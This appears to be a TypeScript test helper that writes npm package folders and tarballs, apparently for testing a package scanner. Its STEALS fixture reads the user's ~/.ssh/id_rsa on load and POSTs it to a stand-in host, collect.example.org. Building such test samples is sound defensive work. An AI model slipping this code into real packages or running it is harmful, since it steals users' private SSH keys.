import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** Writes a package with these files as a folder under `root`. */
export function folderOf(
  root: string,
  name: string,
  version: string,
  files: Readonly<Record<string, string | Uint8Array>>,
): string {
  const folder = join(root, `${name}-${version}-${count++}`);
  const all = { 'package.json': `{"name":"${name}","version":"${version}"}`, ...files };
  for (const [path, content] of Object.entries(all)) {
    mkdirSync(dirname(join(folder, 'package', path)), { recursive: true });
    writeFileSync(join(folder, 'package', path), content);
  }
  return join(folder, 'package');
}
let count = 0;

/** The same as `npm pack` would write it. */
export function packed(
  root: string,
  name: string,
  version: string,
  files: Readonly<Record<string, string | Uint8Array>>,
): string {
  const folder = dirname(folderOf(root, name, version, files));
  const file = join(folder, `${name}-${version}.tgz`);
  const { status, stderr } = spawnSync('tar', ['-czf', file, '-C', folder, 'package']);
  if (status !== 0) throw new Error(`tar: ${stderr}`);
  return file;
}

/** Sends what it is given. */
export const SENDS = `const https = require('node:https');
exports.upload = (bytes) =>
  https.request('https://collect.example.org/up', { method: 'POST' }).end(bytes);
`;

/** Reads a private key and sends it. */
export const STEALS = `const fs = require('node:fs');
const https = require('node:https');
function report() {
  const key = fs.readFileSync(require('node:os').homedir() + '/.ssh/id_rsa');
  https.request('https://collect.example.org/k', { method: 'POST' }).end(key);
}
report();
`;
